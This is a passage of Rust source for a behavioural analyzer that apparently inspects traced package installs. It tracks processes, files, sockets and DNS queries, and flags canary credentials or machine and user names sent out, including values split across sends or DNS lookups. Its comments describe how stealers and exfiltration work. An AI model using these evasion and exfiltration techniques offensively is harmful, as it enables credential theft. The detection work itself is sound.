//! The analyzer proper: consumes events in order, keeps the process model
//! up to date, derives a [`Fact`] for each event that a rule could care
//! about, runs the rule pack on it, and records the behaviour the report
//! lists (files, commands, connections, DNS queries).

// A fast hash seeded per run (the keys are paths and pids from the log:
// seeded, a log cannot be made to collide), not SipHash: hashing was 7%
// of the instructions of analyzing a real log.
use foldhash::{HashMap, HashMapExt, HashSet, HashSetExt};
use std::net::IpAddr;
use std::rc::Rc;

use tracer::{Event, EventKind, Origin, SockAddr};

use crate::findings::{Evidence, Findings};
use crate::paths::{self, basename};
use crate::process::{FdInfo, ProcessModel};
use crate::rules::fact::{Actor, TARGET_ALL, TARGET_OUTSIDE, TARGET_OWN, TARGET_TREE};
use crate::rules::matcher::PathMemo;
use crate::rules::{Fact, RulePack};
use event::dns;
use report::{Behaviour, Command, Connection, DnsQueryRecord, Exchange, FileRecord, PhaseReport};
use std::sync::Arc;

/// What the analyzer knows about the run besides the events.
#[derive(Clone, Debug, Default)]
pub struct Context {
    /// Phase name (`install`, `start`, ...).
    pub phase: String,
    pub ecosystem: Option<String>,
    /// The traced HOME. When unknown, a HOME recorded in an exec's
    /// environment is used, else `/root` and `/home/<user>`.
    pub home: Option<String>,
    /// The directory the traced command started in.
    pub cwd: Option<String>,
    /// The package's own directory (default: `cwd`).
    pub project: Option<String>,
    /// Values planted in canary credentials; seeing one leave is exfiltration.
    pub canaries: Vec<String>,
    /// The package under test (`name@version`): the package of the traced
    /// command itself when it is not the package manager (the start
    /// phase's `node -e "require('x')"`), and of a build whose directory
    /// names no package (pip's `pip-req-build-*`).
    pub package: Option<String>,
    /// What identifies the traced machine and user: its host name, the
    /// user's name. Sent out in a DNS name, it is a fingerprint of the
    /// victim. More are learnt from a recorded environment (`HOSTNAME`,
    /// `USER`, `LOGNAME`).
    pub identity: Vec<String>,
}

/// How many events may wait for their task's Spawn before they are
/// analyzed anyway. strace prints a child's first calls at most a few
/// dozen lines before its parent's clone returns; a task whose Spawn is
/// further away than this has none in the log (strace -p, concatenated
/// logs), and waiting longer would only cost memory.
const MAX_ORPHANED: usize = 4096;
/// Paths whose glob matches are remembered (a few MB at most).
const MAX_PATH_MEMOS: usize = 32 * 1024;

/// How many payload bytes a fact carries for `payload_re`.
const PAYLOAD_TEXT_MAX: usize = 4096;

/// How many of the last bytes sent on a socket are searched with the next.
const SENT_TAIL: usize = 1024;

/// How many bytes of a datagram the report's connection shows.
const FIRST_BYTES_MAX: usize = 64;

/// How many bytes of what a sink received the report's `network` shows.
const EXCHANGE_BYTES_MAX: usize = 1024;

pub struct Analyzer<'r> {
    pack: &'r RulePack,
    ctx: Context,
    model: ProcessModel,
    findings: Findings,
    files: HashMap<String, FileRecord>,
    project_files: u64,
    commands: Vec<Command>,
    connections: Vec<Connection>,
    /// What the sandbox's sinks received (`request` events).
    network: Vec<Exchange>,
    dns: Vec<DnsQueryRecord>,
    dns_seen: HashSet<(String, String)>,
    /// Per process and domain, the first labels of its queries there joined
    /// in order: a value split over several lookups is found in them.
    dns_joined: HashMap<(i32, String), crate::canary::JoinedLabels>,
    /// Per process and socket, the last send: a value split over two sends
    /// is found across them.
    sent_tail: HashMap<(i32, i32), SentTail>,
    created: HashSet<String>,
    /// Files of `created` written by a process that was online.
    downloaded: HashSet<String>,
    /// Directories created in this run (mkdir).
    dirs: HashMap<String, i32>,
    /// IP → host name, from DNS answers the sandbox saw.
    names: HashMap<IpAddr, String>,
    env_home: Option<String>,
    /// Host and user names from recorded environments.
    learnt_identity: Vec<String>,
    /// Package code sent something off the machine in this phase: a
    /// connection or datagram to an internet address, a DNS query, a
    /// request a sink received.
    sent_out: bool,
    /// With HOME unknown: the homes (`/root`, `/home/<user>`) the trace
    /// shows to be the traced user's: the command started or changed
    /// directory there, or something there was opened, run or found.
    own_homes: HashSet<String>,
    /// Events of tasks not yet reported by their parent's Spawn.
    orphans: HashMap<i32, Vec<Event>>,
    orphaned: usize,
    /// The ecosystem, when not given, from the package manager that ran.
    inferred_ecosystem: Option<&'static str>,
    /// Rule-facing view of each process, dropped whenever the tree changes.
    actors: HashMap<i32, Arc<Actor>>,
    /// (process, fd) → the address it was bound to, for `listen`.
    bound: HashMap<(i32, i32), SockAddr>,
    /// (process, destination) → its datagram entry in `connections`.
    datagrams: HashMap<(i32, SockAddr), usize>,
    events: u64,
    /// An empty fact, the base of every fact made.
    blank: Fact,
    path_memos: HashMap<Rc<str>, Rc<PathMemo>>,
    /// The phase and ecosystem (given, else inferred) as facts carry them.
    phase: Arc<str>,
    ecosystem: Option<Arc<str>>,
}

impl<'r> Analyzer<'r> {
    pub fn new(pack: &'r RulePack, ctx: Context) -> Analyzer<'r> {
        let mut ctx = ctx;
        if ctx.project.is_none() {
            ctx.project = ctx.cwd.clone();
        }
        let own_homes = ctx.cwd.as_deref().and_then(home_of).map(str::to_string).into_iter().collect();
        let (phase, ecosystem) = (Arc::from(ctx.phase.as_str()), ctx.ecosystem.as_deref().map(Arc::from));
        Analyzer {
            pack,
            model: ProcessModel::new(ctx.cwd.clone()),
            ctx,
            findings: Findings::default(),
            files: HashMap::new(),
            project_files: 0,
            commands: Vec::new(),
            connections: Vec::new(),
            network: Vec::new(),
            dns: Vec::new(),
            dns_seen: HashSet::new(),
            dns_joined: HashMap::new(),
            sent_tail: HashMap::new(),
            created: HashSet::new(),
            downloaded: HashSet::new(),
            dirs: HashMap::new(),
            names: HashMap::new(),
            env_home: None,
            learnt_identity: Vec::new(),
            sent_out: false,
            own_homes,
            bound: HashMap::new(),
            datagrams: HashMap::new(),
            actors: HashMap::new(),
            inferred_ecosystem: None,
            orphans: HashMap::new(),
            orphaned: 0,
            events: 0,
            blank: Fact::default(),
            path_memos: HashMap::new(),
            phase,
            ecosystem,
        }
    }

    /// The findings so far, in the order they were first seen.
    pub fn findings(&self) -> &Findings {
        &self.findings
    }

    /// Takes the next event. Events of a task whose parent has not yet
    /// reported it (strace often prints a child's first calls before the
    /// parent's clone returns) wait until the Spawn arrives, so they are
    /// judged with the right process chain.
    pub fn event(&mut self, ev: &Event) {
        if let EventKind::Spawn { child, .. } = &ev.kind {
            self.analyze(ev);
            if let Some(waiting) = self.orphans.remove(child) {
                self.orphaned -= waiting.len();
                for e in &waiting {
                    self.event(e);
                }
            }
            return;
        }
        let unknown = self.model.root().is_some() && !self.model.knows(ev.pid);
        if unknown || self.orphans.contains_key(&ev.pid) {
            if self.orphaned >= MAX_ORPHANED {
                self.release_orphans();
            } else {
                self.orphans.entry(ev.pid).or_default().push(ev.clone());
                self.orphaned += 1;
                return;
            }
        }
        self.analyze(ev);
    }

    /// Analyzes waiting events as they are: their Spawn never came (a log
    /// of a process attached with -p, or one cut short).
    fn release_orphans(&mut self) {
        let mut pids: Vec<i32> = self.orphans.keys().copied().collect();
        pids.sort_unstable();
        for pid in pids {
            for e in self.orphans.remove(&pid).unwrap_or_default() {
                self.analyze(&e);
            }
        }
        self.orphaned = 0;
    }

    fn analyze(&mut self, ev: &Event) {
        self.events += 1;
        let pid = ev.pid;
        match &ev.kind {
            EventKind::Spawn { child, thread, .. } => {
                self.model.spawn(pid, *child, *thread);
                self.actors.clear();
            }
            EventKind::Exec { path, argv, env, result, syscall, .. } => {
                let path = self.model.resolve(pid, None, &path.lossy());
                let argv: Vec<String> = argv.iter().map(|a| a.lossy().into_owned()).collect();
                let env: Vec<String> = env.iter().flatten().map(|e| event::bytes::lossy(e).into_owned()).collect();
                let mut fact = self.base_fact(pid, "exec", syscall);
                // The exec's actor is the program it starts, in the same place
                // in the tree as the process that starts it.
                let mut actor = (*fact.actor).clone();
                actor.is_package_manager = self.is_package_manager(&path, &argv);
                actor.exe = Some(path.clone());
                actor.argv_line = argv.join(" ");
                actor.argv = argv.clone();
                // Whose package the new program works for: what its
                // environment or directory says, else its parent's.
                let cwd = self.model.get(pid).and_then(|p| p.cwd.clone()).or_else(|| self.ctx.cwd.clone());
                let own_command = self.model.get(pid).is_none_or(|p| p.parent.is_none() && p.exe.is_none());
                let in_build = cwd.as_deref().is_some_and(|c| c.contains("/pip-req-build-"));
                let package = package_of(&env, cwd.as_deref())
                    .or_else(|| (own_command || in_build).then(|| self.ctx.package.clone()).flatten())
                    .filter(|_| !actor.is_package_manager);
                // pip's build of a local or direct sdist (`pip-req-build-*`)
                // names no package, but the directory is still its own.
                let package_dir = if package.is_some() || cwd.as_deref().is_some_and(|c| c.contains("/pip-req-build-"))
                {
                    package_dir_of(&env, cwd.as_deref()).filter(|_| !actor.is_package_manager)
                } else {
                    None
                };
                actor.package = package.clone().or(actor.package);
                actor.package_dir = package_dir.clone().or(actor.package_dir);
                // Package code stays package code whatever it execs; a
                // program that is no package manager becomes it when a
                // package manager started it or it works for a package.
                actor.package_code |=
                    !actor.is_package_manager && (fact.actor.is_package_manager || actor.package.is_some());
                fact.actor = Arc::new(actor);
                fact.path = Some(path.clone());
                fact.home_rel = self.home_rel(&path);
                fact.foreign_home = self.foreign_home(&path);
                fact.in_project = self.ctx.project.as_deref().is_some_and(|d| paths::is_within(&path, d));
                fact.env = env.clone();
                fact.success = known(result);
                fact.errno = result.errno.clone();
                // `sh /tmp/x.sh` runs a created file as much as `/tmp/x.sh`
                // does. The package's own files are created by the install
                // too (extraction) and are expected to run, so a script
                // counts only outside the package's directory.
                let script = script_arg(&argv).map(|a| self.model.resolve(pid, None, a));
                let created_script = script.as_ref().is_some_and(|s| {
                    self.created.contains(s) && !self.ctx.project.as_deref().is_some_and(|d| paths::is_within(s, d))
                });
                fact.created_in_run = self.created.contains(&path) || created_script;
                fact.downloaded =
                    self.downloaded.contains(&path) || script.as_ref().is_some_and(|s| self.downloaded.contains(s));
                // The program (or the script it runs) in the package's own
                // directory.
                let target = if created_script { script.clone() } else { Some(path.clone()) };
                fact.in_package_dir = fact
                    .actor
                    .package_dir
                    .as_deref()
                    .is_some_and(|d| target.as_deref().is_some_and(|t| paths::is_within(t, d)));
                fact.canary = self.has_canary(argv.iter().chain(env.iter()).map(String::as_str));
                // The command the user (or pkgtrace, for a phase) asked to
                // trace is not behaviour: the first program of a process no
                // traced process started (and its PATH-search attempts).
                if !own_command {
                    self.check(&fact, ev);
                }
                let leader = self.model.leader_of(pid);
                // A PATH search is one command: its attempts replace each
                // other, and the program that finally starts replaces them.
                let attempt =
                    self.commands.last().is_some_and(|c| c.pid == leader && c.failed.is_some() && c.argv == argv);
                if attempt {
                    self.commands.pop();
                }
                if result.failed() {
                    let parent = self.model.get(pid).and_then(|p| p.parent);
                    self.commands.push(Command {
                        argv: argv.clone(),
                        exe: path.clone(),
                        pid: leader,
                        parent,
                        chain: self.chain_text(pid),
                        failed: Some(result.errno.clone().unwrap_or_else(|| "failed".into())),
                    });
                }
                if result.success() {
                    for e in &env {
                        let value = ["HOSTNAME=", "USER=", "LOGNAME="].iter().find_map(|k| e.strip_prefix(k));
                        if let Some(v) = value.filter(|v| v.len() >= 3 && !self.learnt_identity.iter().any(|l| l == v))
                        {
                            self.learnt_identity.push(v.to_string());
                        }
                    }
                    let home = env.iter().find_map(|e| e.strip_prefix("HOME=")).map(str::to_string);
                    if self.env_home.is_none() {
                        self.env_home.clone_from(&home);
                    }
                    self.touch(&path, |r| r.exec = true, true);
                    let parent = self.model.get(pid).and_then(|p| p.parent);
                    if self.inferred_ecosystem.is_none() && fact.actor.is_package_manager {
                        self.inferred_ecosystem = ecosystem_of(&fact.actor.chain, &argv);
                        if self.ecosystem.is_none() {
                            self.ecosystem = self.inferred_ecosystem.map(Arc::from);
                        }
                    }
                    self.model.exec(pid, path.clone(), argv.clone(), home);
                    if package.is_some() {
                        let task = self.model.task(pid);
                        task.package = package;
                        task.package_dir = package_dir;
                    }
                    self.actors.clear();
                    self.commands.push(Command {
                        argv,
                        exe: path,
                        pid: self.model.leader_of(pid),
                        parent,
                        chain: self.chain_text(pid),
                        failed: None,
                    });
                }
            }
            EventKind::Exit { .. } => self.model.exit(pid),
            EventKind::Superseded { by } => {
                self.model.superseded(*by);
                self.actors.clear();
            }
            EventKind::Signal { .. } | EventKind::Unparsed { .. } => {}
            EventKind::Open { syscall, path, dirfd, access, create, truncate, result, resolved, .. } => {
                let raw = path.lossy();
                let path = match resolved.as_ref().map(|r| r.lossy()) {
                    Some(r) if !paths::is_proc_self_alias(&raw, &r) => paths::normalize(&r),
                    _ => self.model.resolve(pid, dirfd.as_ref(), &raw),
                };
                let path = self.proc_self(pid, path);
                self.learn_cwd(pid, dirfd.as_ref());
                let ok = result.success();
                if ok {
                    if let Some(fd) = result.value {
                        self.model.task(pid).fds.insert(fd as i32, FdInfo::File(path.clone()));
                    }
                }
                let newly_created = ok && *create && !self.files.contains_key(&path);
                let mut fact = self.path_fact(pid, "open", syscall, &path);
                self.home_evidence(&path, ok);
                fact.access = Some(*access);
                fact.creates = *create || *truncate;
                fact.success = known(result);
                fact.errno = result.errno.clone();
                self.check(&fact, ev);
                let (reads, writes) = (access.reads(), access.writes() || *create || *truncate);
                // A result unknown (a live run skips the exits nobody reads,
                // a log cut off mid-call) is no failure.
                self.touch(
                    &path,
                    |r| {
                        r.read |= reads;
                        r.write |= writes;
                    },
                    !result.failed(),
                );
                if newly_created {
                    if self.model.get(pid).is_some_and(|p| p.online) {
                        self.downloaded.insert(path.clone());
                    }
                    self.created.insert(path);
                }
            }
            EventKind::Probe { syscall, path, dirfd, result } => {
                let path = self.model.resolve(pid, dirfd.as_ref(), &path.lossy());
                let path = self.proc_self(pid, path);
                self.learn_cwd(pid, dirfd.as_ref());
                if self.pack.wants("probe") {
                    let mut fact = self.path_fact(pid, "probe", syscall, &path);
                    fact.success = known(result);
                    fact.errno = result.errno.clone();
                    self.check(&fact, ev);
                }
                // A stealer's search is stat and access in HOME: listed.
                if home_of(&path).is_some() {
                    self.touch(&path, |r| r.probe = true, result.success());
                }
                self.home_evidence(&path, result.success());
            }
            EventKind::Unlink { syscall, path, dirfd, result } => {
                let path = self.model.resolve(pid, dirfd.as_ref(), &path.lossy());
                let mut fact = self.path_fact(pid, "unlink", syscall, &path);
                fact.success = known(result);
                fact.errno = result.errno.clone();
                self.check(&fact, ev);
                self.touch(&path, |r| r.delete = true, result.success());
            }
            EventKind::Rename { syscall, from, from_dirfd, to, to_dirfd, result } => {
                let from = self.model.resolve(pid, from_dirfd.as_ref(), &from.lossy());
                let to = self.model.resolve(pid, to_dirfd.as_ref(), &to.lossy());
                let mut fact = self.path_fact(pid, "rename", syscall, &to);
                fact.source = Some(from.clone());
                fact.success = known(result);
                fact.errno = result.errno.clone();
                self.check(&fact, ev);
                let ok = result.success();
                self.touch(&from, |r| r.delete = true, ok);
                self.touch(&to, |r| r.write = true, ok);
                if ok && self.downloaded.remove(&from) {
                    self.downloaded.insert(to.clone());
                }
                if ok && (self.created.remove(&from) || !self.files.contains_key(&to)) {
                    self.created.insert(to);
                }
            }
            EventKind::Mkdir { syscall, path, dirfd, result, mode } => {
                let path = self.model.resolve(pid, dirfd.as_ref(), &path.lossy());
                let mut fact = self.path_fact(pid, "mkdir", syscall, &path);
                fact.mode = *mode;
                fact.success = known(result);
                fact.errno = result.errno.clone();
                self.check(&fact, ev);
                if result.success() {
                    self.created.insert(path.clone());
                    self.dirs.insert(path, self.model.leader_of(pid));
                }
            }
            EventKind::Chmod { syscall, path, dirfd, mode, result } => {
                let path = if path.is_empty() {
                    // fchmod: the fd names the file.
                    self.fd_path(pid, dirfd.as_ref()).unwrap_or_default()
                } else {
                    self.model.resolve(pid, dirfd.as_ref(), &path.lossy())
                };
                let mut fact = self.path_fact(pid, "chmod", syscall, &path);
                // A directory's x bits let one enter it: nothing is made
                // executable (build tools chmod the directories they create).
                fact.mode = if self.dirs.contains_key(&path) { mode.map(|m| m & !0o111) } else { *mode };
                fact.success = known(result);
                fact.errno = result.errno.clone();
                self.check(&fact, ev);
                self.touch(&path, |r| r.chmod = true, result.success());
            }
            EventKind::Link { syscall, target, path, dirfd, symbolic, result } => {
                let path = self.model.resolve(pid, dirfd.as_ref(), &path.lossy());
                let target = if *symbolic {
                    target.lossy().into_owned()
                } else {
                    self.model.resolve(pid, None, &target.lossy())
                };
                let mut fact = self.path_fact(pid, "link", syscall, &path);
                fact.source = Some(target);
                fact.success = known(result);
                fact.errno = result.errno.clone();
                self.check(&fact, ev);
                if result.success() {
                    self.created.insert(path.clone());
                }
                self.touch(&path, |r| r.write = true, result.success());
            }
            EventKind::Socket { family, sock_type, result } => {
                if let (true, Some(fd)) = (result.success(), result.value) {
                    let stream = sock_type.starts_with("SOCK_STREAM");
                    let info = FdInfo::Socket { family: family.clone(), stream, peer: None };
                    self.model.task(pid).fds.insert(fd as i32, info);
                }
            }
            EventKind::Connect { fd, addr, result } => {
                let stream = match self.fd_info(pid, fd) {
                    Some(FdInfo::Socket { stream, .. }) => stream,
                    _ => true,
                };
                self.model.task(pid).fds.insert(
                    fd.num,
                    FdInfo::Socket { family: addr.family().to_string(), stream, peer: Some(addr.clone()) },
                );
                let mut fact = self.addr_fact(pid, "connect", "connect", addr);
                fact.success = known(result);
                let through = result.success() || result.errno.as_deref() == Some("EINPROGRESS");
                let internet = to_internet(&fact);
                if through && internet {
                    self.model.task(pid).online = true;
                }
                self.note_sent(&fact, internet);
                fact.errno = result.errno.clone();
                self.check(&fact, ev);
                if !stream && addr.ip_port().is_some() {
                    // The datagrams sent on it fill in this entry.
                    self.datagrams.insert((self.model.leader_of(pid), addr.clone()), self.connections.len());
                }
                self.connections.push(Connection {
                    family: addr.family().to_string(),
                    address: addr_text(addr),
                    port: addr.ip_port().map(|(_, p)| p),
                    host: fact.host.clone(),
                    transport: match (addr, stream) {
                        (SockAddr::Unix { .. }, _) => "unix",
                        (_, true) => "tcp",
                        (_, false) => "udp",
                    }
                    .into(),
                    result: result_text(result),
                    pid: self.model.leader_of(pid),
                    first_bytes: None,
                    canaries: Vec::new(),
                });
            }
            EventKind::Bind { fd, addr, result } => {
                if result.success() {
                    self.bound.insert((self.model.leader_of(pid), fd.num), addr.clone());
                }
                let mut fact = self.addr_fact(pid, "bind", "bind", addr);
                fact.success = known(result);
                fact.errno = result.errno.clone();
                self.check(&fact, ev);
            }
            EventKind::Listen { fd, result } => {
                // The address is the one the fd was bound to.
                let mut fact = self.base_fact(pid, "listen", "listen");
                if let Some(addr) = self.bound.get(&(self.model.leader_of(pid), fd.num)) {
                    self.fill_addr(&mut fact, addr);
                }
                fact.success = known(result);
                self.check(&fact, ev);
            }
            EventKind::Send { syscall, fd, addr, data, result } => {
                self.send(ev, pid, syscall, fd, addr.as_ref(), data, result)
            }
            EventKind::Request { transport, protocol, addr, host, method, url, data } => {
                let mut fact = self.addr_fact(pid, "request", protocol, addr);
                fact.host = fact.host.or_else(|| host.clone());
                fact.protocol = Some(protocol.clone());
                fact.method = method.clone();
                fact.url = url.clone();
                fact.success = Some(true);
                let text = event::bytes::lossy(data.bytes.as_slice()).into_owned();
                let canaries = self.canaries_in_bytes(data.bytes.as_slice());
                fact.canary = !canaries.is_empty();
                // The request line and body, not the headers a client adds
                // by itself (Host, User-Agent).
                let sent = format!("{} {}", url.as_deref().unwrap_or_default(), body_of(&text));
                fact.identity = protocol != "dns" && self.text_carries_identity(&sent);
                self.note_sent(&fact, true);
                fact.payload = Some(text);
                self.check(&fact, ev);
                let (address, port) = addr.ip_port().map(|(ip, port)| (ip.to_string(), port)).unwrap_or_default();
                self.network.push(Exchange {
                    transport: transport.clone(),
                    protocol: protocol.clone(),
                    address,
                    port,
                    host: fact.host.clone(),
                    pid: if pid == 0 { 0 } else { self.model.leader_of(pid) },
                    process: if pid == 0 { String::new() } else { fact.actor.chain.clone() },
                    method: method.clone(),
                    url: url.clone(),
                    first_bytes: text_of(&data.bytes.as_slice()[..data.bytes.len().min(EXCHANGE_BYTES_MAX)]),
                    size: data.len.unwrap_or(data.bytes.len() as u64),
                    canaries,
                });
            }
            EventKind::Recv { fd, addr, data, .. } => {
                // DNS answers name the addresses that later connects go to.
                let info = self.fd_info(pid, fd);
                let (stream, peer) = match &info {
                    Some(FdInfo::Socket { stream, peer, .. }) => (*stream, peer.clone()),
                    _ => (false, None),
                };
                let from_dns = addr.as_ref().or(peer.as_ref()).and_then(|a| a.ip_port()).is_some_and(|(_, p)| p == 53);
                if from_dns {
                    for answer in dns::decode_answers(data.bytes.as_slice(), stream) {
                        self.names.insert(answer.ip, answer.name);
                    }
                }
            }
            EventKind::Chdir { path, fd, result, .. } => {
                if result.success() {
                    let dir = if path.is_empty() {
                        self.fd_path(pid, fd.as_ref())
                    } else {
                        Some(self.model.resolve(pid, None, &path.lossy()))
                    };
                    if let Some(dir) = dir.filter(|d| d.starts_with('/')) {
                        self.home_evidence(&dir, true);
                        self.model.task(pid).cwd = Some(dir);
                    }
                }
            }
            EventKind::Dup { syscall, old, new, result } => {
                let info = self.fd_info(pid, old);
                if result.success() && *new >= 0 {
                    let p = self.model.task(pid);
                    match &info {
                        Some(i) => p.fds.insert(*new, i.clone()),
                        None => p.fds.remove(new),
                    };
                }
                let mut fact = self.base_fact(pid, "dup", syscall);
                fact.old_fd = Some(old.num);
                fact.new_fd = Some(*new);
                fact.fd_kind = info.as_ref().map(|i| i.kind().to_string());
                if let Some(FdInfo::Socket { peer: Some(peer), .. }) = &info {
                    self.fill_addr(&mut fact, peer);
                }
                fact.success = known(result);
                self.check(&fact, ev);
            }
            EventKind::Close { fd, result } => {
                if result.success() {
                    self.model.task(pid).fds.remove(&fd.num);
                }
            }
            EventKind::Ptrace { request, target, result } => {
                let mut fact = self.base_fact(pid, "ptrace", "ptrace");
                fact.request = Some(request.clone());
                fact.path = target.map(|t| t.to_string());
                fact.target = target.map(|t| self.whose(pid, t));
                fact.target_pid = *target;
                fact.success = known(result);
                fact.errno = result.errno.clone();
                self.check(&fact, ev);
            }
            EventKind::Kill { syscall, target, signal, result } => {
                let mut fact = self.base_fact(pid, "kill", syscall);
                fact.target = Some(self.signal_target(pid, *target));
                fact.target_pid = Some(*target);
                fact.signal = Some(signal.clone());
                fact.success = known(result);
                fact.errno = result.errno.clone();
                self.check(&fact, ev);
            }
            EventKind::Denied { syscall, what, errno, args } => {
                let mut fact = self.base_fact(pid, "denied", syscall);
                fact.refused = Some(what.clone());
                fact.payload = (!args.is_empty()).then(|| args.clone());
                fact.success = Some(false);
                fact.errno = Some(errno.clone());
                self.check(&fact, ev);
            }
            EventKind::Other { syscall, args, result } => {
                let mut fact = self.base_fact(pid, "other", syscall);
                fact.payload = Some(args.clone());
                fact.success = known(result);
                fact.errno = result.errno.clone();
                self.check(&fact, ev);
            }
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn send(
        &mut self,
        ev: &Event,
        pid: i32,
        syscall: &str,
        fd: &tracer::Fd,
        addr: Option<&SockAddr>,
        data: &[tracer::Payload],
        result: &tracer::SysResult,
    ) {
        let info = self.fd_info(pid, fd);
        let (stream, peer) = match &info {
            Some(FdInfo::Socket { stream, peer, .. }) => (*stream, peer.clone()),
            // write() to a file, pipe or tty: not a send.
            Some(_) => return,
            None if syscall == "write" || syscall == "writev" => return,
            None => (false, None),
        };
        let Some(dest) = addr.cloned().or(peer) else {
            // An unconnected socket with no address: nothing to say where.
            return;
        };
        let mut fact = self.addr_fact(pid, "send", syscall, &dest);
        fact.success = known(result);
        self.note_sent(&fact, to_internet(&fact));
        let text: String = data
            .iter()
            .map(|d| event::bytes::lossy(&d.bytes.as_slice()[..d.bytes.len().min(PAYLOAD_TEXT_MAX)]).into_owned())
            .collect::<Vec<_>>()
            .join("\n");
        let to_resolver = dest.ip_port().is_some_and(|(_, port)| port == 53);
        let mut queries: Vec<dns::DnsQuery> = Vec::new();
        let mut first_is_query = false;
        if to_resolver {
            for (i, d) in data.iter().enumerate() {
                let found = dns::decode_query(d.bytes.as_slice(), stream);
                first_is_query |= i == 0 && !found.is_empty();
                queries.extend(found);
            }
        }
        let canaries = self.sent_canaries(pid, fd, &dest, data);
        // A query's name is checked as a `dns` fact; one finding is enough.
        // Bytes to port 53 that carry a canary outside any query name (a
        // datagram that is no DNS query at all) are the send's own finding.
        fact.canary =
            !canaries.is_empty() && !queries.iter().any(|q| self.has_canary(std::iter::once(q.name.as_str())));
        fact.payload = Some(text);
        self.check(&fact, ev);
        if !stream && dest.ip_port().is_some() {
            // A DNS query is listed, decoded, under `dns`; its raw bytes
            // start with a random transaction ID, which would make the
            // reports of two runs of the same package differ.
            let first = data.first().filter(|_| !first_is_query);
            self.datagram(pid, &dest, fact.host.clone(), first, canaries, result);
        }
        for q in queries {
            self.dns_query(ev, pid, &dest, q);
        }
    }

    /// A datagram sent to an internet address is a connection in the
    /// report, as a TCP connect is: one entry per process and destination
    /// (the one its `connect` made, for a connected socket), with the first
    /// bytes sent and every canary a datagram to it carried. Without it, a
    /// token sent in one UDP packet to a public resolver leaves no trace in
    /// the behaviour.
    fn datagram(
        &mut self,
        pid: i32,
        dest: &SockAddr,
        host: Option<String>,
        first: Option<&tracer::Payload>,
        canaries: Vec<String>,
        result: &tracer::SysResult,
    ) {
        let leader = self.model.leader_of(pid);
        let key = (leader, dest.clone());
        let i = match self.datagrams.get(&key) {
            Some(&i) => i,
            None => {
                self.connections.push(Connection {
                    family: dest.family().to_string(),
                    address: addr_text(dest),
                    port: dest.ip_port().map(|(_, p)| p),
                    host,
                    transport: "udp".into(),
                    result: result_text(result),
                    pid: leader,
                    first_bytes: None,
                    canaries: Vec::new(),
                });
                self.datagrams.insert(key, self.connections.len() - 1);
                self.connections.len() - 1
            }
        };
        let c = &mut self.connections[i];
        if c.first_bytes.is_none() {
            c.first_bytes = first.map(|p| preview(p.bytes.as_slice()));
        }
        for v in canaries {
            if !c.canaries.contains(&v) {
                c.canaries.push(v);
            }
        }
    }

    /// Package code sent something off the machine (`out`: it went beyond
    /// loopback; a DNS query or a request the sinks received always does).
    fn note_sent(&mut self, fact: &Fact, out: bool) {
        self.sent_out |= out && !fact.actor.is_package_manager;
    }

    fn dns_query(&mut self, ev: &Event, pid: i32, server: &SockAddr, q: dns::DnsQuery) {
        let mut fact = self.base_fact(pid, "dns", "dns");
        fact.dns_name = Some(q.name.clone());
        fact.dns_type = Some(q.qtype.clone());
        fact.host = Some(q.name.clone());
        fact.encoded_label = dns::looks_encoded(&q.name);
        fact.canary = self.has_canary(std::iter::once(q.name.as_str())) || self.joined_canary(pid, &q.name);
        fact.identity = self.carries_identity(&q.name);
        self.note_sent(&fact, true);
        self.fill_addr(&mut fact, server);
        fact.host = Some(q.name.clone());
        fact.success = Some(true);
        self.check(&fact, ev);
        if self.dns_seen.insert((q.name.clone(), q.qtype.clone())) {
            self.dns.push(DnsQueryRecord {
                name: q.name,
                r#type: q.qtype,
                server: addr_text(server),
                truncated: q.truncated,
                pid: self.model.leader_of(pid),
            });
        }
    }

    /// Does a DNS name carry the machine's or the user's name: as a whole
    /// label (or a `-`/`_`-separated part of one), or hex/base32/base64
    /// encoded in a label?
    fn carries_identity(&self, name: &str) -> bool {
        let ids: Vec<String> = self.identity().filter(|i| i.len() >= 3).map(|i| i.to_ascii_lowercase()).collect();
        if ids.is_empty() {
            return false;
        }
        let lower = name.to_ascii_lowercase();
        let plain = lower.split('.').any(|label| {
            ids.iter().any(|id| {
                label == id
                    || label.split(['-', '_']).any(|part| part == id)
                    || (id.len() >= 8 && label.contains(id.as_str()))
            })
        });
        plain || crate::canary::contains_encoded(name, &ids)
    }

    /// Does text sent out (a URL, a request body) carry the machine's or
    /// the user's name: as a token of its own (`h=sam-laptop`,
    /// `"user":"sam"`), or encoded?
    fn text_carries_identity(&self, text: &str) -> bool {
        let ids: Vec<String> = self.identity().filter(|i| i.len() >= 3).map(|i| i.to_ascii_lowercase()).collect();
        if ids.is_empty() {
            return false;
        }
        let lower = text.to_ascii_lowercase();
        let plain = lower
            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == '.'))
            .any(|token| ids.iter().any(|id| token == id || (id.len() >= 8 && token.contains(id.as_str()))));
        plain || crate::canary::contains_encoded(text, &ids)
    }

    /// The identity values: given, and learnt from recorded environments.
    fn identity(&self) -> impl Iterator<Item = &String> {
        self.ctx.identity.iter().chain(self.learnt_identity.iter())
    }

    /// Runs the pack on a fact and records what fires.
    fn check(&mut self, fact: &Fact, ev: &Event) {
        if !self.pack.wants(fact.kind) {
            return;
        }
        let pid = self.model.leader_of(ev.pid);
        let findings = &mut self.findings;
        let mut subject: Option<String> = None;
        self.pack.evaluate(fact, |idx, rule, verdict| {
            let subject = subject.get_or_insert_with(|| fact.subject()).clone();
            let evidence = Evidence {
                at: match &ev.origin {
                    Origin::Log { .. } => Some(ev.origin.to_string()),
                    Origin::Live => None,
                },
                syscall: fact.syscall.clone(),
                seq: ev.seq,
                result: fact
                    .errno
                    .clone()
                    .or_else(|| fact.success.map(|s| if s { "ok" } else { "failed" }.to_string())),
            };
            let (process, package) = (fact.actor.chain.clone(), fact.actor.package.clone());
            findings.record(idx, rule, &fact.phase, subject, pid, process, package, evidence, verdict);
        });
    }

    fn base_fact(&mut self, pid: i32, kind: &'static str, syscall: &str) -> Fact {
        Fact {
            kind,
            syscall: syscall.to_string(),
            actor: self.actor(pid),
            phase: self.phase.clone(),
            ecosystem: self.ecosystem.clone(),
            // A copy of a blank fact, not `Fact::default()`: that made (and
            // dropped) a new default actor for every fact.
            ..self.blank.clone()
        }
    }

    /// The acting process as rules see it, cached until the tree changes.
    fn actor(&mut self, pid: i32) -> Arc<Actor> {
        let leader = self.model.leader_of(pid);
        if let Some(a) = self.actors.get(&leader) {
            return a.clone();
        }
        let chain = self.model.chain(leader);
        let me = chain.last();
        let exe = me.and_then(|p| p.exe.clone());
        let argv = me.map(|p| p.argv.clone()).unwrap_or_default();
